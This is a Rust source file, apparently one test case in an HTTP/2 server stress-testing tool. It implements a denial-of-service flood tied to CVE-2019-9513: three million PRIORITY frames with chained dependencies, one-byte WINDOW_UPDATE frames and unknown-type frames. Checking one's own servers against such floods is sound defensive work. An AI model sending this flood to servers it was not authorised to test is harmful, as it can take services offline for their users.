//! Frames that nobody needs (CVE-2019-9513 and others): PRIORITY, WINDOW_UPDATE of a byte, and types that there are not.

use super::hold_floods;
use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case, Limit};
use crate::frames::{PRIORITY, UNKNOWN, WINDOW_UPDATE, frame};

pub(super) struct IgnoredFrames;

impl Case for IgnoredFrames {
    fn name(&self) -> &'static str {
        "ignored-frames"
    }

    fn does(&self) -> &'static str {
        "sends PRIORITY, WINDOW_UPDATE of a byte and frames of an unknown type in turn, three million in all"
    }

    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
        0
    }

    // Nothing is kept of them.
    fn limit(&self) -> Limit {
        Limit::Cheap
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        Box::pin(hold_floods(attacker, &[], |out, number| {
            // Depends on the stream before, as in a chain without an end.
            let before = (2 * number).saturating_sub(1).to_be_bytes();
            let [a, b, c, d] = before;
            frame(out, PRIORITY, 0, 2 * number + 1, &[a, b, c, d, 255]);
            frame(out, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
            frame(out, UNKNOWN, 0, 0, &before);
        }))
    }
}
